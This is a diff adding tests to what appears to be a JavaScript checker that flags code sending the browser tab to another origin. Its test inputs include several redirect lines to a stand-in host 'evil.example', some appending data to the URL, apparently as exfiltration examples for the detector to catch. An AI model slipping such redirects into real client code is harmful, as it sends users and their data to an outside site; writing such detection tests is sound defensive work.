@@ -163,3 +163,36 @@ describe('facts', () => {
     expect(globals('window.a = 1; globalThis["b"] = 2; this.c = 3; other.d = 4')).toEqual(['a', 'b', 'c']);
   });
 });
+
+describe('sending the tab away', () => {
+  it.each([
+    'location.href="https://evil.example/?d="+data',
+    'window.location="//evil.example"',
+    'location.assign(`https://evil.example/${data}`)',
+    'top.location.replace("https://evil.example")',
+    'self.open("https://evil.example","_blank")',
+    'document.location = "http://evil.example"',
+    'window["location"]["href"]="https://evil.example"',
+    'window?.open("https://evil.example")',
+  ])('is refused to another origin: %s', (text) => {
+    expect(problems(text)).toEqual([
+      expect.stringMatching(/^client\/a\.js:1:\d+ sends the tab to another origin$/),
+    ]);
+  });
+
+  it.each<[string, boolean]>([
+    ['window.location.assign(url)', true],
+    ['location.href=x', true],
+    ['window.open(url)', true],
+    ['window.open("","_blank")', false],
+    ['location.assign("/leads")', false],
+    ['location.assign(`/leads/${id}`)', false],
+    ['if(location.href==="https://farmpost.example")go()', false],
+    ['const {location}=useRouter(); text.replace(a,b); e.location.pathname', false],
+    ['location.replace(/a/,"b")', false],
+    ['// location.href=x', false],
+  ])('to a computed address is remarked on: %s (%p)', (text, isRemarked) => {
+    expect(problems(text)).toEqual([]);
+    expect(readScript('client/a.js', text).leavesAt !== null).toBe(isRemarked);
+  });
+});
